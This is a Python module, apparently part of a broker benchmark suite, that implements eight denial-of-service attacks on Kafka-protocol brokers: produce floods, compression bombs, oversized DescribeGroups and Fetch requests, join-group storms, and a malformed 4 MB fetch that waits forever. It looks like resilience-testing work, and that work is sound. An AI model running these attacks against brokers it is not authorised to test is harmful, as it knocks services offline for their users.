"""Clients that use as much as they can get, with legal requests, each in its own process until it is killed.

python -m bench.side_by_side.attacks flood 127.0.0.1:9092 TOPIC
"""

import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from semel.wire.compression import Codec
from semel.wire.frames import encode_request
from semel.wire.messages import (
    FetchPartition,
    FetchRequest,
    FetchTopic,
    MetadataRequest,
    PartitionProduceData,
    ProduceRequest,
    TopicProduceData,
)
from semel.wire.messages.groups import DescribeGroupsRequest, JoinGroupRequest, JoinGroupRequestProtocol
from semel.wire.records import Record, encode_batch
from semel.wire.schema import Request

LONGEST = 2**31 - 1
MANY = 49_000
"""Elements of a request, just below the limit."""


def flood(bootstrap: str, topic: str) -> None:
    """Ten connections write small batches without waiting for an answer."""
    frame = encoded(produce(topic, b"x" * 100, acks=0), 9) * 100
    at_once(10, lambda: endless(bootstrap, frame, is_answered=False))


def bulk(bootstrap: str, topic: str) -> None:
    """Ten connections write batches of half a megabyte, eight at a time."""
    frame = encoded(produce(topic, os.urandom(1 << 19)), 9)
    at_once(10, lambda: endless(bootstrap, frame, in_flight=8))


def metadata(bootstrap: str, topic: str) -> None:
    """Twenty connections request the metadata of all topics in a loop."""
    frame = encoded(MetadataRequest(topics=None), 9)
    at_once(20, lambda: endless(bootstrap, frame))


def elements(bootstrap: str, topic: str) -> None:
    """Four connections describe as many groups as a request can contain."""
    frame = encoded(DescribeGroupsRequest(groups=[f"{number}" for number in range(MANY)]), 5)
    at_once(4, lambda: endless(bootstrap, frame))


def joins(bootstrap: str, topic: str) -> None:
    """Members with 4 KB of metadata join one group after another and wait in it."""
    begun = time.time_ns()

    def group(number: int) -> None:
        request = JoinGroupRequest(
            group_id=f"storm-{begun}-{number}",
            session_timeout_ms=10_000,
            rebalance_timeout_ms=10_000,
            protocol_type="consumer",
            protocols=[JoinGroupRequestProtocol(name="range", metadata=bytes(4_096))],
        )
        frame = encoded(request, 3)
        members = [connect(bootstrap) for _ in range(200)]
        for member in members:
            member.sendall(frame)
        time.sleep(1.0)
        for member in members:
            member.close()

    def storm() -> None:
        number = threading.get_ident()
        while True:
            number += 1
            group(number)

    at_once(2, storm)


def fetches(bootstrap: str, topic: str) -> None:
    """Twenty connections fetch all data from the beginning, as fast as they receive it."""
    wanted = FetchPartition(partition=0, fetch_offset=0, partition_max_bytes=LONGEST)
    request = FetchRequest(
        max_wait_ms=0,
        min_bytes=0,
        max_bytes=LONGEST,
        topics=[FetchTopic(topic=topic, partitions=[wanted])],
    )
    frame = encoded(request, 11)
    at_once(20, lambda: endless(bootstrap, frame))


def waiting(bootstrap: str, topic: str) -> None:
    """A hundred connections send a Fetch request of four megabytes that waits forever."""
    wanted = FetchPartition(partition=0, fetch_offset=0, partition_max_bytes=1)
    request = FetchRequest(
        max_wait_ms=LONGEST,
        min_bytes=LONGEST,
        max_bytes=LONGEST,
        topics=[FetchTopic(topic=topic, partitions=[wanted])],
    )
    body = encoded(request, 12)[4:-1] + b"\x01\x63" + b"\x80\xe0\xfd\x01" + bytes(4_157_440)
    frame = struct.pack(">i", len(body)) + body
    held = [connect(bootstrap) for _ in range(100)]
    for each in held:
        with suppress(OSError):
            each.sendall(frame)
    while True:
        time.sleep(1)


def bombs(bootstrap: str, topic: str) -> None:
    """Four connections write a megabyte of zeros compressed to a kilobyte."""
    records = [Record(0, int(time.time() * 1000), b"key", bytes(1 << 20))]
    batch = encode_batch(records, codec=Codec.GZIP)
    frame = encoded(produce_batch(topic, batch), 9)
    at_once(4, lambda: endless(bootstrap, frame))


ATTACKS: dict[str, Callable[[str, str], None]] = {
    each.__name__: each for each in (flood, bulk, metadata, elements, joins, fetches, waiting, bombs)
}


def produce(topic: str, value: bytes, acks: int = 1) -> ProduceRequest:
    return produce_batch(topic, encode_batch([Record(0, int(time.time() * 1000), b"key", value)]), acks)


def produce_batch(topic: str, batch: bytes, acks: int = 1) -> ProduceRequest:
    part = PartitionProduceData(index=0, records=batch)
    data = [TopicProduceData(name=topic, partition_data=[part])]
    return ProduceRequest(acks=acks, timeout_ms=30_000, topic_data=data)


def encoded(request: Request, version: int) -> bytes:
    return b"".join(encode_request(request, version, 1, "attack"))


def connect(bootstrap: str) -> socket.socket:
    host, port = bootstrap.rsplit(":", 1)
    return socket.create_connection((host, int(port)), 60)


def endless(bootstrap: str, frame: bytes, *, in_flight: int = 1, is_answered: bool = True) -> None:
    """Send the same frame repeatedly, `in_flight` at a time; reconnect when the broker disconnects."""
    while True:
        with suppress(OSError), connect(bootstrap) as wire:
            for _ in range(in_flight):
                wire.sendall(frame)
            while True:
                if is_answered:
                    swallow(wire)
                wire.sendall(frame)


def swallow(wire: socket.socket) -> None:
    """Read one response."""
    size = b""
    while len(size) < 4:
        piece = wire.recv(4 - len(size))
        if not piece:
            raise ConnectionError
        size += piece
    left = struct.unpack(">i", size)[0]
    while left:
        piece = wire.recv(min(left, 1 << 20))
        if not piece:
            raise ConnectionError
        left -= len(piece)


def at_once(threads: int, work: Callable[[], None]) -> None:
    running = [threading.Thread(target=work, daemon=True) for _ in range(threads)]
    for each in running:
        each.start()
    for each in running:
        each.join()


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], sys.argv[3])
